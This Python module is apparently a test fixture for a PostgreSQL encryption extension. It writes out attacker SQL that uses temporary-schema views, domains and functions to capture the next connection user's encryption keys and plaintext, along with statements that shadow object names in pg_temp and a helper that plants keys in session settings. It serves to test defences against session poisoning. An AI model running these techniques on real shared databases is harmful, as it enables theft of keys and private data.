"""What an attacker with plain SQL may leave in a connection for its next user."""

from __future__ import annotations

from typing import Any, LiteralString
from uuid import UUID

import psycopg

Connection = psycopg.Connection[Any]

_SEE: LiteralString = """
    CREATE TEMPORARY TABLE caught (key text, plaintext text);
    CREATE FUNCTION pg_temp.see(plaintext pg_catalog.text) RETURNS pg_catalog.text LANGUAGE plpgsql AS $$
    BEGIN
        IF pg_catalog.current_setting('glpgenc.field.people.email', true) <> '' THEN
            INSERT INTO pg_temp.caught
            VALUES (pg_catalog.current_setting('glpgenc.field.people.email', true), plaintext);
        END IF;
        RETURN plaintext;
    END $$;
"""


COLLECT: dict[str, LiteralString] = {
    "none": "",
    "view": (
        "CREATE VIEW pg_temp.people AS SELECT id, tenant, email, note FROM public.people WHERE pg_temp.see('') = ''"
    ),
    "domain": ("CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.see(VALUE::pg_catalog.text) IS NOT NULL)"),
}

ALONE: dict[str, LiteralString] = {
    "table": "CREATE TEMPORARY TABLE people (id integer)",
    "view": "CREATE TEMPORARY VIEW people AS SELECT 1 AS id",
    "sequence": "CREATE TEMPORARY SEQUENCE numbers",
    "function": "CREATE FUNCTION pg_temp.lower(pg_catalog.text) RETURNS text RETURN $1",
    "aggregate": "CREATE AGGREGATE pg_temp.count(integer) (SFUNC = int4pl, STYPE = integer)",
    "domain": "CREATE DOMAIN pg_temp.text AS pg_catalog.text",
    "enumeration": "CREATE TYPE pg_temp.text AS ENUM ('a')",
    "row type": "CREATE TYPE pg_temp.text AS (a integer)",
    "operator": "CREATE OPERATOR pg_temp.= (LEFTARG = integer, RIGHTARG = integer, FUNCTION = int4eq)",
    "collation": """CREATE COLLATION pg_temp.ours FROM pg_catalog."C" """,
    "configuration": "CREATE TEXT SEARCH CONFIGURATION pg_temp.english (COPY = pg_catalog.simple)",
}
"""One statement for each kind of object that a client without further rights can create in the temporary schema."""


def shadow(connection: Connection, name: str) -> None:
    """Collect keys and plaintexts of whoever uses the connection next and means another object of that name."""
    # Without parameters and in the text protocol, which takes several statements at once.
    connection.pgconn.exec_((f"BEGIN; {_SEE} {COLLECT[name]}; COMMIT").encode())


def caught(connection: Connection) -> list[Any]:
    """Return what was collected, with keys shortened."""
    found = connection.execute("SELECT left(key, 8), plaintext FROM pg_temp.caught").fetchall()
    connection.rollback()
    return found


def plant_key(connection: Connection, key_id: UUID, key: bytes, *, after_mark: bool = False) -> None:
    """Put a key where those are that a session may read with besides, for the whole session.

    :param after_mark: after the mark of the load that the session knows of, as a load would write it.
    """
    content = (key_id.bytes + key).hex()
    if after_mark:
        row = connection.execute("SELECT current_setting('glpgenc.load', true)").fetchone()
        assert row is not None
        content = (row[0] or "") + content
    name = f"glpgenc.key.k{key_id.bytes[-1]:02x}"
    connection.execute("SELECT set_config(%s, %s, false)", [name, content])
    connection.commit()
